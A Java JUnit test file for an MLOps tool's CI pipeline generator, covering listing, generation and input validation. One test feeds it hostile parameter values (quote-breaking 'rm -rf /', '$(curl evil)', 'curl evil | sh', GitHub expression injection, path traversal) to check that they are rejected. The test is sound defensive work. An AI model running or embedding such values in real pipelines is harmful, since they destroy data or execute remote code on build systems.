package neural.mlops.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import neural.mlops.ci.CiParameters;
import neural.mlops.ci.CiTemplateGenerator;
import neural.mlops.ci.Parameter;
import neural.mlops.ci.Platform;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CiCommandTest {

    @Test
    void listShowsEveryPlatformAndEveryParameterWithItsDefault() {
        CliRun run = CliRun.of("ci", "list");
        assertThat(run.status()).isZero();
        assertThat(run.err()).isEmpty();
        for (Platform platform : Platform.values()) {
            assertThat(run.out()).contains(platform.value(), platform.displayName());
        }
        assertThat(run.out()).contains(".github/workflows/mlops.yml", ".gitlab-ci.yml", "Jenkinsfile", "azure-pipelines.yml");
        for (Parameter parameter : CiParameters.definitions()) {
            assertThat(run.out()).contains(parameter.name());
            if (!parameter.defaultValue().isEmpty()) {
                assertThat(run.out()).contains("default: " + parameter.defaultValue());
            }
        }
    }

    @Test
    void listAsJsonGivesPlatformsAndParametersForMachines() throws Exception {
        CliRun run = CliRun.of("--json", "ci", "list");
        assertThat(run.status()).isZero();
        JsonNode json = new ObjectMapper().readTree(run.out());
        assertThat(json.get("platforms")).hasSize(4);
        assertThat(json.get("platforms").get(0).get("id").asText()).isEqualTo("github");
        assertThat(json.get("platforms").get(0).get("default_path").asText()).isEqualTo(".github/workflows/mlops.yml");
        assertThat(json.get("platforms").get(2).get("template").asText()).isEqualTo("ci_templates/Jenkinsfile");
        assertThat(json.get("parameters")).hasSize(CiParameters.definitions().size());
        JsonNode first = json.get("parameters").get(0);
        assertThat(first.get("name").asText()).isEqualTo("project_name");
        assertThat(first.get("default").asText()).isEqualTo("my-project");
        assertThat(first.get("type").asText()).isEqualTo("name");
        assertThat(first.get("description").asText()).isNotBlank();
    }

    @Test
    void generateWritesThePipelineToStdout() {
        CliRun run = CliRun.of("ci", "generate", "--platform", "github");
        assertThat(run.status()).isZero();
        assertThat(run.out()).isEqualTo(new CiTemplateGenerator().generate(Platform.GITHUB, CiParameters.defaults()));
        assertThat(run.err()).isEmpty();
    }

    @Test
    void generateAppliesEverySetInOrder() {
        CliRun run = CliRun.of("ci", "generate", "--platform", "gitlab", "--set", "model_name=fraud_detector",
                "--set", "require_approval=false", "--set", "test_command=pytest -q -k 'not slow'");
        assertThat(run.status()).isZero();
        CiParameters expected = CiParameters.parse(List.of("model_name=fraud_detector", "require_approval=false",
                "test_command=pytest -q -k 'not slow'"));
        assertThat(run.out()).isEqualTo(new CiTemplateGenerator().generate(Platform.GITLAB, expected))
                .contains("MODEL_NAME: \"fraud_detector\"").doesNotContain("when: manual");
    }

    @Test
    void generateWithOutCreatesTheFoldersAndWritesTheFile(@TempDir Path repo) throws Exception {
        Path target = repo.resolve(".github/workflows/mlops.yml");
        CliRun run = CliRun.of("ci", "generate", "--platform", "github", "--out", target.toString(),
                "--set", "model_name=fraud_detector");
        assertThat(run.status()).isZero();
        assertThat(run.out()).isEmpty();
        assertThat(run.errLines()).singleElement().asString().contains("Wrote the GitHub Actions pipeline to " + target);
        assertThat(Files.readString(target, StandardCharsets.UTF_8))
                .isEqualTo(new CiTemplateGenerator().generate(Platform.GITHUB, CiParameters.defaults().with("model_name", "fraud_detector")));
    }

    @Test
    void generateToAnUnconventionalPathSaysWhereThePlatformLooks(@TempDir Path repo) {
        CliRun run = CliRun.of("ci", "generate", "--platform", "azure", "--out", repo.resolve("pipeline.yml").toString());
        assertThat(run.status()).isZero();
        assertThat(run.err()).contains("azure-pipelines.yml");
    }

    @Test
    void generateWithOutAndJsonReportsWhatItWrote(@TempDir Path repo) throws Exception {
        Path target = repo.resolve("Jenkinsfile");
        CliRun run = CliRun.of("--json", "ci", "generate", "--platform", "jenkins", "--out", target.toString());
        assertThat(run.status()).isZero();
        JsonNode json = new ObjectMapper().readTree(run.out());
        assertThat(json.get("platform").asText()).isEqualTo("jenkins");
        assertThat(json.get("path").asText()).isEqualTo(target.toString());
        assertThat(json.get("bytes").asLong()).isEqualTo(Files.size(target));
    }

    @Test
    void generateAsJsonToStdoutCarriesTheContent() throws Exception {
        CliRun run = CliRun.of("--json", "ci", "generate", "--platform", "azure");
        assertThat(run.status()).isZero();
        JsonNode json = new ObjectMapper().readTree(run.out());
        assertThat(json.get("content").asText()).isEqualTo(new CiTemplateGenerator().generateAzurePipelines(CiParameters.defaults()));
    }

    @Test
    void anUnknownKeyExitsTwoNamingIt() {
        CliRun run = CliRun.of("ci", "generate", "--platform", "github", "--set", "colour=blue");
        assertThat(run.status()).isEqualTo(Cli.BAD_INPUT);
        assertThat(run.errLines()).singleElement().asString().contains("Unknown parameter 'colour'");
        assertThat(run.out()).isEmpty();
    }

    @Test
    void aBadValueExitsTwoNamingTheKey() {
        CliRun run = CliRun.of("ci", "generate", "--platform", "github", "--set", "python_version=latest");
        assertThat(run.status()).isEqualTo(Cli.BAD_INPUT);
        assertThat(run.errLines()).singleElement().asString().contains("python_version").contains("'latest'");
        assertThat(run.out()).isEmpty();
    }

    @Test
    void aBadPlatformExitsTwo() {
        CliRun run = CliRun.of("ci", "generate", "--platform", "travis");
        assertThat(run.status()).isEqualTo(Cli.BAD_INPUT);
        assertThat(run.err()).contains("Unknown platform 'travis'").contains("github, gitlab, jenkins, azure");
        assertThat(CliRun.of("ci", "generate").status()).isEqualTo(Cli.BAD_INPUT);
    }

    @Test
    void anAssignmentWithoutEqualsExitsTwo() {
        CliRun run = CliRun.of("ci", "generate", "--platform", "github", "--set", "model_name");
        assertThat(run.status()).isEqualTo(Cli.BAD_INPUT);
        assertThat(run.err()).contains("KEY=VALUE");
    }

    @Test
    void hostileValuesExitTwoAndWriteNothing(@TempDir Path repo) {
        Path target = repo.resolve(".gitlab-ci.yml");
        for (String assignment : List.of("model_name=x\"; rm -rf / #", "main_branch=${{ github.event.issue.title }}",
                "staging_endpoint=$(curl evil)", "staging_environment=staging\nrun: evil",
                "test_command=pytest\ncurl evil | sh", "train_command=echo ${{ github.event.issue.title }}",
                "workspace=../../etc", "release_tag_pattern=v*; curl evil")) {
            CliRun run = CliRun.of("ci", "generate", "--platform", "gitlab", "--out", target.toString(), "--set", assignment);
            String key = assignment.substring(0, assignment.indexOf('='));
            assertThat(run.status()).as(assignment).isEqualTo(Cli.BAD_INPUT);
            assertThat(run.errLines()).as(assignment).singleElement().asString().contains(key);
            assertThat(target).doesNotExist();
        }
    }
}
